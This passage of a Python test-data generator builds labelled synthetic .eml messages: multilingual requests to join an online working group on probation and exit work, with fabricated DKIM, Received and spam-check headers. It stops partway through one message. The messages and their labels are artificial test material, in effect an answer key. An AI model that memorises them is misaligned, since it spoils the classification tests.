#!/usr/bin/env python3
"""Generate the labelled classification set in this directory.

    .venv/bin/python tests/data/classify/make_set.py          # (re)write *.eml and labels.tsv
    .venv/bin/python tests/data/classify/make_set.py --check  # also parse every file

Deterministic: no clock, no randomness; "random" bytes (DKIM values, ids, the PDF and the
garbage files) come from SHA-256 of fixed seeds, so a re-run is byte-identical.

Every message is written out literally (headers as the real client or server writes them)
so that the set does not all look alike. The helpers only cover what is truly repetitive:
the two Received hops added by the callflow mail host, fake DKIM values, and
base64/quoted-printable/encoded-word encoding. See README.md for the label conventions.
"""

# ruff: noqa: W291  (trailing spaces inside the mail literals are format=flowed soft breaks)
from __future__ import annotations

import base64
import hashlib
import quopri
import sys
from datetime import timedelta
from email.utils import format_datetime, parsedate_to_datetime
from html import escape
from pathlib import Path

HERE = Path(__file__).resolve().parent
CONTACT = "contact@callflow.example.org"
ANNA = "anna.organiser@example.org"
BEN = "ben.organiser@example.org"
SURVEY = "survey@surveys.example.org"
EVENT = "Working group meeting: practitioners in rehabilitation and exit work"
SURVEY_URL = "https://surveys.example.org/s/working-group-2022"
WEBEX = "https://example.webex.com/meet/working-group"

MESSAGES: list[tuple] = []


def add(name, kind, intent, reply, applicant, bounced, note, raw, *, crlf=False):
    """Register one file. raw is str (written as UTF-8) or bytes (written as is)."""
    assert not any(m[0] == name for m in MESSAGES), name
    MESSAGES.append((name, kind, intent, reply, applicant, bounced, note, raw, crlf))


# --------------------------------------------------------------------------- helpers
def stream(seed: str, n: int) -> bytes:
    out = bytearray()
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}:{i}".encode()).digest()
        i += 1
    return bytes(out[:n])


def fake_b64(seed: str, n: int) -> str:
    return base64.b64encode(stream(seed, n)).decode()[:n]


ALNUM = "0123456789BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz"
HEX = "0123456789abcdef"


def fake_id(seed: str, n: int = 12, alphabet: str = ALNUM) -> str:
    return "".join(alphabet[b % len(alphabet)] for b in stream(seed, n))


def fake_uuid(seed: str) -> str:
    h = fake_id(seed, 32, HEX)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def fold(s: str, width: int = 72, sep: str = "\n\t ") -> str:
    return sep.join(s[i:i + width] for i in range(0, len(s), width))


def b64(data, width: int = 76) -> str:
    if isinstance(data, str):
        data = data.encode("utf-8")
    s = base64.b64encode(data).decode()
    return "\n".join(s[i:i + width] for i in range(0, len(s), width)) + "\n"


def qp(text: str, charset: str = "utf-8") -> str:
    return quopri.encodestring(text.encode(charset)).decode("ascii")


def ew(text: str, charset: str = "utf-8", enc: str = "B", chunk: int = 30) -> str:
    """RFC 2047 encoded words, split into chunks and folded like real mailers do."""
    words = []
    for i in range(0, len(text), chunk):
        raw = text[i:i + chunk].encode(charset)
        if enc == "B":
            words.append(f"=?{charset}?B?{base64.b64encode(raw).decode()}?=")
        else:
            out = []
            for b in raw:
                c = chr(b)
                if c == " ":
                    out.append("_")
                elif b < 128 and (c.isalnum() or c in "!*+-/.,"):
                    out.append(c)
                else:
                    out.append(f"={b:02X}")
            words.append(f"=?{charset}?Q?{''.join(out)}?=")
    return "\n ".join(words)


def later(date: str, secs: int) -> str:
    return format_datetime(parsedate_to_datetime(date) + timedelta(seconds=secs))


def quote(text: str, prefix: str = "> ") -> str:
    return "\n".join((prefix + line).rstrip() if line else prefix.rstrip() for line in text.split("\n"))


def html_lines(text: str) -> str:
    return "<br>\n".join(escape(line) for line in text.split("\n"))


def envelope(sender: str, date: str, helo: str, ip: str, *, rcpt: str = CONTACT, spam=None,
             auth: str | None = None, delay: int = 3) -> str:
    """The headers the callflow mail host adds: MX (Postfix) hop, spam check, LMTP hop."""
    seed = f"{sender}|{date}|{helo}"
    qid = "4K" + fake_id(seed + "q", 10)
    lmtp = fake_id(seed + "l", 22, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
    lines = [
        f"Return-Path: <{sender}>",
        f"Delivered-To: {rcpt}",
        f"Received: from mx1.callflow.example.org\n\tby imap.callflow.example.org with LMTP\n\tid {lmtp}\n"
        f"\t(envelope-from <{sender}>)\n\tfor <{rcpt}>; {later(date, delay + 1)}",
    ]
    if spam is not None:
        score, tests = spam
        flag = "Yes" if score >= 5 else "No"
        lines += [
            "X-Spam-Checker-Version: SpamAssassin 3.4.6 (2021-04-09) on\n\tmx1.callflow.example.org",
            f"X-Spam-Level: {'*' * int(max(score, 0))}",
            f"X-Spam-Status: {flag}, score={score:.1f} required=5.0 tests={tests}\n"
            f"\tautolearn={'spam' if score >= 5 else 'ham'} autolearn_force=no version=3.4.6",
        ]
        if score >= 5:
            lines.insert(3, "X-Spam-Flag: YES")
    if auth:
        lines.append(f"Authentication-Results: mx1.callflow.example.org;\n\t{auth}")
    lines.append(
        f"Received: from {helo} ({helo} [{ip}])\n"
        "\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
        "\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
        "\t(No client certificate requested)\n"
        f"\tby mx1.callflow.example.org (Postfix) with ESMTPS id {qid}\n"
        f"\tfor <{rcpt}>; {later(date, delay)}")
    return "\n".join(lines) + "\n"


def auth_pass(domain: str, seed: str) -> str:
    return (f"dkim=pass (2048-bit key; unprotected) header.d={domain} header.i=@{domain} "
            f"header.b=\"{fake_b64(seed, 8)}\";\n\tdmarc=pass (p=none dis=none) header.from={domain};\n"
            f"\tspf=pass smtp.mailfrom={domain}")


def dkim(domain: str, selector: str, headers: str, seed: str) -> str:
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain}; s={selector};\n"
            f"\th={headers};\n\tbh={fake_b64(seed + 'bh', 43)}=;\n\tb={fold(fake_b64(seed + 'b', 342))}==\n")


def gmail_hops(seed: str, domain: str, date: str, local: str) -> str:
    """Gmail-style signing and submission headers (shape of mail.gmail.com mail)."""
    host = f"mail-{fake_id(seed + 'h', 3).lower()}-f{40 + stream(seed, 1)[0] % 60}.{domain}"
    return (dkim(domain, "20210112", "mime-version:references:in-reply-to:from:date:message-id:subject:to", seed)
            + f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n"
            f"\td=1e100.{domain}; s=20210112;\n\th=x-gm-message-state:mime-version:from:date:message-id:subject:to;\n"
            f"\tbh={fake_b64(seed + 'gbh', 43)}=;\n\tb={fold(fake_b64(seed + 'gb', 342))}==\n"
            f"X-Gm-Message-State: {fake_b64(seed + 'ms', 64)}\n\t{fake_b64(seed + 'ms2', 48)}\n"
            f"X-Google-Smtp-Source: ABdhPJ{fake_b64(seed + 'ss', 80)}\n"
            f"X-Received: by 2002:a05:6000:{fake_id(seed + 'x', 3, HEX)}:b0:1f0:{fake_id(seed + 'y', 4, HEX)} with SMTP id "
            f"{fake_id(seed + 'z', 10).lower()}mr{fake_id(seed + 'w', 7, '0123456789')}wrp.{stream(seed, 2)[1]}.{stream(seed, 3)[2]};\n"
            f"        {later(date, 1)}\n"
            f"Received: by {host} with SMTP id {fake_id(seed + 'r', 12).lower()}so{fake_id(seed + 'i', 7, '0123456789')}"
            f"\n        for <{CONTACT}>; {later(date, 1)}\n"), host


def outlook_headers(topic: str, seed: str, accept: str = "en-US", lang: str = "en-US") -> str:
    return (f"Thread-Topic: {topic}\n"
            f"Thread-Index: AQHY{fake_b64(seed + 'ti', 24)}\n"
            f"Accept-Language: {accept}\n"
            f"Content-Language: {lang}\n"
            "X-MS-Has-Attach:\n"
            "X-MS-TNEF-Correlator:\n"
            "x-ms-publictraffictype: Email\n"
            f"x-ms-office365-filtering-correlation-id: {fake_uuid(seed + 'cid')}\n"
            "x-ms-exchange-senderadcheck: 1\n"
            "x-ms-exchange-antispam-relay: 0\n"
            f"x-microsoft-antispam: BCL:0;\n"
            f"x-forefront-antispam-report: CIP:255.255.255.255;CTRY:;LANG:{lang.split('-')[0]};SCL:1;SRV:;IPV:NLI;SFV:NSPM;\n"
            f" H:AM0PR07MB{fake_id(seed + 'srv', 4, '0123456789')}.eurprd07.prod.outlook.example.com;PTR:;CAT:NONE;\n"
            " SFS:(13230001)(4636009)(366004)(39860400002)(376002);DIR:OUT;SFP:1102;\n")


def outlook_msgid(seed: str) -> str:
    srv = "AM0PR07MB" + fake_id(seed + "srv", 4, "0123456789")
    return f"<{srv}{fake_id(seed + 'mid', 28, '0123456789ABCDEF')}@{srv}.eurprd07.prod.outlook.example.com>"


def mso(paragraphs: list[str]) -> str:
    """Body paragraphs the way Word-as-editor writes them (text is escaped here)."""
    out = []
    for p in paragraphs:
        if p == "":
            out.append('<p class="MsoNormal"><o:p>&nbsp;</o:p></p>')
        else:
            out.append(f'<p class="MsoNormal">{html_lines(p)}<o:p></o:p></p>')
    return "\n".join(out)


def outlook_html(body: str, lang: str = "EN-US") -> str:
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
            '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
            '<style><!--\n/* Font Definitions */\n@font-face\n\t{font-family:"Cambria Math";\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\n'
            '@font-face\n\t{font-family:Calibri;\n\tpanose-1:2 15 5 2 2 2 4 3 2 4;}\n/* Style Definitions */\n'
            'p.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;\n\tfont-size:11.0pt;\n\tfont-family:"Calibri",sans-serif;\n'
            '\tmso-fareast-language:EN-US;}\na:link, span.MsoHyperlink\n\t{mso-style-priority:99;\n\tcolor:#0563C1;\n'
            '\ttext-decoration:underline;}\nspan.EmailStyle18\n\t{mso-style-type:personal-reply;\n'
            '\tfont-family:"Calibri",sans-serif;\n\tcolor:windowtext;}\n.MsoChpDefault\n\t{mso-style-type:export-only;\n'
            '\tfont-size:10.0pt;}\n@page WordSection1\n\t{size:612.0pt 792.0pt;\n\tmargin:70.85pt 70.85pt 2.0cm 70.85pt;}\n'
            'div.WordSection1\n\t{page:WordSection1;}\n--></style><!--[if gte mso 9]><xml>\n'
            '<o:shapedefaults v:ext="edit" spidmax="1026" />\n</xml><![endif]--><!--[if gte mso 9]><xml>\n'
            '<o:shapelayout v:ext="edit">\n<o:idmap v:ext="edit" data="1" />\n</o:shapelayout></xml><![endif]-->\n'
            f'</head>\n<body lang="{lang}" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n'
            f'<div class="WordSection1">\n{body}\n</div>\n</body>\n</html>\n')


def outlook_quote_html(fields: list[tuple[str, str]], quoted_text: str) -> str:
    head = "<br>\n".join(f"<b>{escape(k)}:</b> {escape(v)}" for k, v in fields)
    return ('<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">\n'
            f'<p class="MsoNormal"><b><span lang="DE">{head}</span></b><o:p></o:p></p>\n</div>\n'
            '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n'
            + mso(quoted_text.split("\n\n")))


def gmail_html(text: str, quoted: tuple[str, str] | None = None) -> str:
    paras = "<div><br></div>".join(f"<div>{html_lines(p)}</div>" for p in text.strip().split("\n\n"))
    out = f'<div dir="ltr">{paras}</div>'
    if quoted:
        attr, qtext = quoted
        out += ('<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">' + escape(attr) + '<br></div>'
                '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid '
                f'rgb(204,204,204);padding-left:1ex">{html_lines(qtext)}</blockquote></div>')
    return out + "\n"


# --------------------------------------------------------------------------- texts callflow sent
def ack_text(name: str) -> str:
    return f"""Dear {name},

thank you for your interest in the {EVENT}.

The meeting takes place online over WebEx, in English, on two afternoons:
  - Thursday 24 March 2022, 13:30-16:30 (Europe/Brussels; 12:30-15:30 UTC)
  - Friday 25 March 2022, 13:30-16:30 (Europe/Brussels; 12:30-15:30 UTC)

To take part, please fill in the survey by 10 March 2022:
{SURVEY_URL}

The number of places is limited, so filling in the survey does not guarantee a place.
The organisers select participants after the deadline and will write to you then.
We keep your data only for this call. If you want us to delete it, or to withdraw
your interest, simply reply to this message.

With kind regards,
Working group contact
{CONTACT}"""


def invitation_text(name: str) -> str:
    return f"""Dear {name},

we are pleased to invite you to the {EVENT}:

  - Thursday 24 March 2022, 13:30-16:30 (Europe/Brussels)
  - Friday 25 March 2022, 13:30-16:30 (Europe/Brussels)
  WebEx: {WEBEX}

Please confirm your participation by replying to this message by 18 March 2022.
If you cannot attend, please decline, so that we can offer your place to someone
on the waiting list. You can also accept or decline the calendar invitations
attached to this message. If you no longer wish to take part at all, reply
"withdraw".

With kind regards,
Working group contact
{CONTACT}"""


ACK_SUBJECT = "Re: Participation in the working group meeting"
INV_SUBJECT = "Invitation: Working group meeting, 24-25 March 2022 (WebEx)"


def cf_msgid(kind: str, who: str) -> str:
    return f"<callflow.{kind}.{fake_id(kind + who, 16, HEX)}@callflow.example.org>"


def ical_reply(attendee: str, cn: str, partstat: str, sessions=(1,), *, prodid: str, dtstamp: str,
               comment: str | None = None, summary: str | None = None, tz: str = "Europe/Brussels",
               outlook: bool = False) -> str:
    lines = ["BEGIN:VCALENDAR", "METHOD:REPLY", f"PRODID:{prodid}", "VERSION:2.0"]
    if outlook:
        lines += ["BEGIN:VTIMEZONE", "TZID:Romance Standard Time", "BEGIN:STANDARD",
                  "DTSTART:16010101T030000", "TZOFFSETFROM:+0200", "TZOFFSETTO:+0100",
                  "RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=10", "END:STANDARD", "BEGIN:DAYLIGHT",
                  "DTSTART:16010101T020000", "TZOFFSETFROM:+0100", "TZOFFSETTO:+0200",
                  "RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=3", "END:DAYLIGHT", "END:VTIMEZONE"]
        tz = "Romance Standard Time"
    for s in sessions:
        day = 23 + s
        lines += ["BEGIN:VEVENT",
                  f"ATTENDEE;PARTSTAT={partstat};CN={cn}:mailto:{attendee}"]
        if comment:
            lines.append(f"COMMENT:{comment}")
        lines += [f"SUMMARY:{summary or f'Working group meeting, session {s}'}",
                  f"DTSTART;TZID={tz}:202203{day}T133000",
                  f"DTEND;TZID={tz}:202203{day}T163000",
                  f"UID:working-group-2022-session-{s}@callflow.example.org",
                  "ORGANIZER;CN=Working group contact:mailto:contact@callflow.example.org",
                  "SEQUENCE:0", f"DTSTAMP:{dtstamp}", "END:VEVENT"]
    lines.append("END:VCALENDAR")
    return "".join(ical_fold(line) + "\r\n" for line in lines)


def ical_fold(line: str) -> str:
    """RFC 5545 line folding at 75 octets."""
    out, cur = [], ""
    for ch in line:
        if len((cur + ch).encode()) > 75:
            out.append(cur)
            cur = " "
        cur += ch
    return "\r\n".join(out + [cur])


# =========================================================================== applicant: interest
def interest_messages():
    # --- Gmail web, multipart/alternative, plain English
    d = "Tue, 1 Mar 2022 09:12:44 +0000"
    text = """Dear organisers,

I came across the call for participants in the newsletter of our probation
network and I'd like to take part in the working group meeting on 24 and 25
March.

I work as a probation officer in Dublin; my caseload includes two people
convicted of terrorism-related offences, and I have been involved in our
service's disengagement pilot since 2020.

Best regards,
Aoife Byrne
"""
    hops, host = gmail_hops("a1", "mail.example.com", d, "aoife.byrne")
    raw = (envelope("aoife.byrne@mail.example.com", d, host, "209.85.221.54",
                    spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,FREEMAIL_FROM,\n\tHTML_MESSAGE,SPF_PASS"),
                    auth=auth_pass("mail.example.com", "a1"))
           + hops + f"""MIME-Version: 1.0
From: Aoife Byrne <aoife.byrne@mail.example.com>
Date: {d}
Message-ID: <CAF3kR9xq8bJ0ZcUq7mT1f0pV3NnQb2yU6d7oW9Lr+EwXhK4cZg@mail.gmail.example.com>
Subject: Working group meeting 24-25 March - participation
To: contact@callflow.example.org
Content-Type: multipart/alternative; boundary="0000000000005c7a1b05d926e0f1"

--0000000000005c7a1b05d926e0f1
Content-Type: text/plain; charset="UTF-8"

{text}
--0000000000005c7a1b05d926e0f1
Content-Type: text/html; charset="UTF-8"

{gmail_html(text)}
--0000000000005c7a1b05d926e0f1--
""")
    add("interest-en-gmail.eml", "applicant_message", "interest", True, "aoife.byrne@mail.example.com", "",
        "plain 'I'd like to take part'", raw, crlf=True)

    # --- Thunderbird, German, format=flowed, 8bit UTF-8
    d = "Wed, 2 Mar 2022 08:47:19 +0100"
    raw = (envelope("k.vogel@bewaehrungshilfe.example.net", d, "mail.bewaehrungshilfe.example.net", "198.51.100.23",
                    spam=(-1.0, "BAYES_00,SPF_HELO_NONE,SPF_PASS")) + f"""Received: from [192.168.178.41] (p5dd0a1b2.dip0.t-ipconnect.example.net [93.208.161.178])
	(Authenticated sender: k.vogel@bewaehrungshilfe.example.net)
	by mail.bewaehrungshilfe.example.net (Postfix) with ESMTPSA id 4K7mQd2VZjz1xq8
	for <contact@callflow.example.org>; {d}
Message-ID: <5b0e3f3c-2a1d-4c8e-9d4b-7f1e6c0a9b21@bewaehrungshilfe.example.net>
Date: {d}
MIME-Version: 1.0
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101
 Thunderbird/91.6.1
Content-Language: de-DE
To: contact@callflow.example.org
From: Katrin Vogel <k.vogel@bewaehrungshilfe.example.net>
Subject: Teilnahme am Arbeitsgruppentreffen im =?UTF-8?Q?M=c3=a4rz?=
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Sehr geehrte Damen und Herren,

ich würde gerne am Online-Arbeitsgruppentreffen am 24. und 25. März 
teilnehmen. Ich arbeite seit acht Jahren in der Bewährungshilfe und 
betreue dort auch Klientinnen und Klienten aus dem Ausstiegsprogramm 
unseres Landes.

Mit freundlichen Grüßen
Katrin Vogel

-- 
Katrin Vogel
Bewährungshilfe Example e.V.
Tel. +49 30 1234567
""")
    add("interest-de-thunderbird.eml", "applicant_message", "interest", True,
        "k.vogel@bewaehrungshilfe.example.net", "", "German 'ich würde gerne teilnehmen', format=flowed", raw)

    # --- Outlook desktop, French, iso-8859-1 quoted-printable + HTML
    d = "Wed, 2 Mar 2022 11:03:27 +0000"
    body = """Bonjour,

Je souhaiterais participer à la réunion en ligne du groupe de travail des 24 et 25 mars. Je suis conseillère pénitentiaire d'insertion et de probation et je travaille depuis trois ans sur la prise en charge des personnes radicalisées.

Bien cordialement,

Camille Dubois
Conseillère pénitentiaire d'insertion et de probation
SPIP Example"""
    subj = "Participation à la réunion du groupe de travail"
    raw = (envelope("camille.dubois@spip.example.org", d, "EUR04-DB3-obe.outbound.protection.outlook.example.com",
                    "40.107.6.112", auth=auth_pass("spip.example.org", "a3"))
           + f"""Received: from AM0PR07MB6084.eurprd07.prod.outlook.example.com (2603:10a6:208:11c::18)
 by AM0PR07MB4801.eurprd07.prod.outlook.example.com with HTTPS; {d}
From: Camille Dubois <camille.dubois@spip.example.org>
To: "contact@callflow.example.org" <contact@callflow.example.org>
Subject: {ew(subj, "iso-8859-1", "Q", 40)}
""" + outlook_headers(ew(subj, "iso-8859-1", "Q", 40), "a3", "fr-FR, en-US", "fr-FR") + f"""Date: {d}
Message-ID: {outlook_msgid("a3")}
Content-Type: multipart/alternative;
	boundary="_000_AM0PR07MB608451E2A4C0F1D7B0C9A3E1A4A09AM0PR07MB6084eurp_"
MIME-Version: 1.0

--_000_AM0PR07MB608451E2A4C0F1D7B0C9A3E1A4A09AM0PR07MB6084eurp_
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{qp(body + chr(10), "iso-8859-1")}
--_000_AM0PR07MB608451E2A4C0F1D7B0C9A3E1A4A09AM0PR07MB6084eurp_
Content-Type: text/html; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{qp(outlook_html(mso(body.split(chr(10))), "FR").replace("utf-8", "iso-8859-1"), "iso-8859-1")}
--_000_AM0PR07MB608451E2A4C0F1D7B0C9A3E1A4A09AM0PR07MB6084eurp_--
""")
    add("interest-fr-outlook.eml", "applicant_message", "interest", True, "camille.dubois@spip.example.org", "",
        "French 'je souhaiterais participer'; iso-8859-1 QP + HTML; Q-encoded subject", raw, crlf=True)

    # --- Apple Mail, Dutch, quoted-printable
    d = "Wed, 2 Mar 2022 13:21:05 +0100"
    body = """Beste organisatoren,

Ik zou graag deelnemen aan de online werkgroepbijeenkomst op 24 en 25 maart. Ik werk bij de reclassering als adviseur en begeleid cliënten in een exitprogramma.

Met vriendelijke groet,
Joost de Vries
Reclassering Example
"""
    raw = (envelope("joost.devries@reclassering.example.net", d, "smtp.reclassering.example.net", "198.51.100.77",
                    auth=auth_pass("reclassering.example.net", "a4")) + f"""Received: from smtpclient.apple (unknown [203.0.113.41])
	by smtp.reclassering.example.net (Postfix) with ESMTPSA id 3F1C8A0123
	for <contact@callflow.example.org>; {d}
From: Joost de Vries <joost.devries@reclassering.example.net>
Content-Type: text/plain;
	charset=utf-8
Content-Transfer-Encoding: quoted-printable
Mime-Version: 1.0 (Mac OS X Mail 15.0 \\(3693.60.0.1.1\\))
Subject: Aanmelding werkgroep 24-25 maart
Message-Id: <8E4C2D71-3B5A-4F0E-A1C6-92D7B5E1F3A0@reclassering.example.net>
Date: {d}
To: contact@callflow.example.org
X-Mailer: Apple Mail (2.3693.60.0.1.1)

{qp(body)}""")
    add("interest-nl-applemail.eml", "applicant_message", "interest", True,
        "joost.devries@reclassering.example.net", "", "Dutch 'ik zou graag deelnemen'", raw)

    # --- Yahoo web mail, Spanish, B-encoded subject
    d = "Thu, 3 Mar 2022 07:58:31 +0000 (UTC)"
    body = """Buenos días:

Me gustaría participar en la reunión en línea del grupo de trabajo los días 24 y 25 de marzo. Soy psicóloga en un centro penitenciario y trabajo en programas de desvinculación.

Un saludo cordial,
Lucía Fernández"""
    raw = (envelope("lfernandez@correo.example.com", d.replace(" (UTC)", ""), "sonic310-21.consmr.mail.ne1.correo.example.com",
                    "66.163.186.147") + f"""Received: from sonic.gate.mail.ne1.correo.example.com by sonic310-21.consmr.mail.ne1.correo.example.com with HTTP; Thu, 3 Mar 2022 07:58:31 +0000
Date: {d}
From: =?UTF-8?Q?Luc=C3=ADa_Fern=C3=A1ndez?= <lfernandez@correo.example.com>
To: "contact@callflow.example.org" <contact@callflow.example.org>
Message-ID: <1873546120.2093112.1646294311477@mail.correo.example.com>
Subject: {ew("Participación en la reunión del grupo de trabajo", "UTF-8", "B", 40)}
MIME-Version: 1.0
Content-Type: multipart/alternative; 
	boundary="----=_Part_2093111_1180390402.1646294311476"
References: <1873546120.2093112.1646294311477.ref@mail.correo.example.com>
X-Mailer: WebService/1.1.19797 YMailNorrin
Content-Length: 1642

------=_Part_2093111_1180390402.1646294311476
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

{qp(body)}
------=_Part_2093111_1180390402.1646294311476
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

{qp('<html><head></head><body><div class="ydp5c1f2a0eyahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:13px;"><div dir="ltr" data-setdir="false">' + "</div><div dir='ltr' data-setdir='false'><br></div><div dir='ltr' data-setdir='false'>".join(html_lines(p) for p in body.split(chr(10) + chr(10))) + '</div></div></body></html>')}
------=_Part_2093111_1180390402.1646294311476--
""")
    add("interest-es-yahoo.eml", "applicant_message", "interest", True, "lfernandez@correo.example.com", "",
        "Spanish 'me gustaría participar'; stale Content-Length header", raw, crlf=True)

    # --- Roundcube, Italian
    d = "Thu, 03 Mar 2022 10:40:12 +0100"
    raw = (envelope("g.bianchi@cooperativa.example.org", d, "webmail.cooperativa.example.org", "203.0.113.150",
                    spam=(0.8, "BAYES_40,SPF_HELO_NONE,SPF_NONE,TVD_SPACE_RATIO"))
           + f"""Received: from [10.0.4.17] (helo=webmail.cooperativa.example.org)
	by webmail.cooperativa.example.org with esmtpa (Exim 4.94.2)
	(envelope-from <g.bianchi@cooperativa.example.org>)
	id 1nPhk8-0007Qm-Uu
	for contact@callflow.example.org; {d}
MIME-Version: 1.0
Date: {d}
From: Giulia Bianchi <g.bianchi@cooperativa.example.org>
To: contact@callflow.example.org
Subject: Richiesta di partecipazione - gruppo di lavoro 24-25 marzo
Message-ID: <6a0d1f7c3b9e45d2a8c1f0e4b7d3a912@cooperativa.example.org>
X-Sender: g.bianchi@cooperativa.example.org
User-Agent: Roundcube Webmail/1.5.2
Content-Type: text/plain; charset=US-ASCII;
 format=flowed
Content-Transfer-Encoding: 7bit

Buongiorno,

vorrei partecipare all'incontro online del gruppo di lavoro del 24 e 25 
marzo. Lavoro come educatrice in una cooperativa sociale che segue 
persone in uscita da percorsi di radicalizzazione e detenuti in 
esecuzione penale esterna.

Cordiali saluti,
Giulia Bianchi
--
Cooperativa Sociale Example
""")
    add("interest-it-roundcube.eml", "applicant_message", "interest", True, "g.bianchi@cooperativa.example.org", "",
        "Italian 'vorrei partecipare'", raw)

    # --- Evolution, Polish, ISO-8859-2 quoted-printable
    d = "Thu, 03 Mar 2022 12:15:48 +0100"
    body = """Dzień dobry,

chciałabym wziąć udział w spotkaniu grupy roboczej w dniach 24-25 marca.
Pracuję jako kuratorka sądowa i od dwóch lat prowadzę sprawy osób
skazanych za przestępstwa z nienawiści.

Z poważaniem
Marta Kowalska
"""
    raw = (envelope("m.kowalska@kurator.example.com", d, "poczta.kurator.example.com", "198.51.100.140")
           + f"""Received: from laptop-mk.kurator.example.com (unknown [10.20.1.33])
	by poczta.kurator.example.com (Postfix) with ESMTPSA id 9D2B61C0042
	for <contact@callflow.example.org>; {d}
Message-ID: <c1a5e0b2e4f7d19a3b6c8e2f0a1d4b7c9e3f5a28.camel@kurator.example.com>
Subject: {ew("Zgłoszenie udziału w spotkaniu", "ISO-8859-2", "Q", 40)}
From: Marta Kowalska <m.kowalska@kurator.example.com>
To: contact@callflow.example.org
Date: {d}
Content-Type: text/plain; charset="ISO-8859-2"
Content-Transfer-Encoding: quoted-printable
User-Agent: Evolution 3.42.4-0ubuntu1
MIME-Version: 1.0

{qp(body, "iso-8859-2")}""")
    add("interest-pl-iso8859-2.eml", "applicant_message", "interest", True, "m.kowalska@kurator.example.com", "",
        "Polish, ISO-8859-2 QP body and subject", raw)

    # --- iPhone, mixed-case address (label is the normalised address)
    d = "Thu, 3 Mar 2022 19:02:10 +0100"
    raw = (envelope("Maria.Keller@Example.COM", d, "smtp.example.com", "192.0.2.88") + f"""Received: from smtpclient.apple ([203.0.113.9])
	by smtp.example.com with ESMTPSA id 1nPpkD-0004vT-AB; {d}
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit
From: "Maria Keller" <Maria.Keller@Example.COM>
Mime-Version: 1.0 (1.0)
Date: {d}
Subject: Working group
Message-Id: <A1F7C2E9-55D3-4B8A-9C0E-6F2B1D7E3A45@Example.COM>
To: contact@callflow.example.org
X-Mailer: iPhone Mail (19D52)

Hi, please count me in for the working group meeting in March. I'm a psychotherapist working with perpetrators of domestic violence.

Thanks! Maria

Sent from my iPhone
""")
    add("interest-en-iphone-mixedcase.eml", "applicant_message", "interest", True, "maria.keller@example.com", "",
        "From address in mixed case: the applicant key is the lower-cased address", raw)

    # --- Outlook for Mac with a ~220 KB PDF (the one large file)
    d = "Fri, 4 Mar 2022 15:30:02 +0200"
    body = """Dear colleagues,

I would like to take part in the working group meeting on 24-25 March. I have attached my CV for your information; I have also filled in the survey.

Kind regards,
Nikos Papadakis
Ministry of Justice (Example), Directorate for Probation"""
    raw = (envelope("n.papadakis@ministry.example.com", d, "mail-he1eur02.outbound.ministry.example.com", "40.107.1.91",
                    auth=auth_pass("ministry.example.com", "a9")) + f"""From: Nikos Papadakis <n.papadakis@ministry.example.com>
To: "contact@callflow.example.org" <contact@callflow.example.org>
Subject: Application - working group meeting (CV attached)
Thread-Topic: Application - working group meeting (CV attached)
Thread-Index: AQHYL9sZc2vG0n1zXUqk5r1F9oFxYA==
Date: {d}
Message-ID: <4E1B7C0F-2D9A-4C3E-8F61-0A5B2D9C7E14@ministry.example.com>
Accept-Language: el-GR, en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
user-agent: Microsoft-MacOutlook/16.58.22021501
MIME-Version: 1.0
Content-Type: multipart/mixed;
	boundary="_004_4E1B7C0F2D9A4C3E8F610A5B2D9C7E14ministryexamplecom_"

--_004_4E1B7C0F2D9A4C3E8F610A5B2D9C7E14ministryexamplecom_
Content-Type: multipart/alternative;
	boundary="_000_4E1B7C0F2D9A4C3E8F610A5B2D9C7E14ministryexamplecom_"

--_000_4E1B7C0F2D9A4C3E8F610A5B2D9C7E14ministryexamplecom_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

{b64(body + chr(10))}
--_000_4E1B7C0F2D9A4C3E8F610A5B2D9C7E14ministryexamplecom_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: base64

{b64('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div style="font-family:Calibri,sans-serif;font-size:11pt">' + "".join("<p>" + html_lines(p) + "</p>" for p in body.split(chr(10) + chr(10))) + "</div></body></html>")}
--_000_4E1B7C0F2D9A4C3E8F610A5B2D9C7E14ministryexamplecom_--

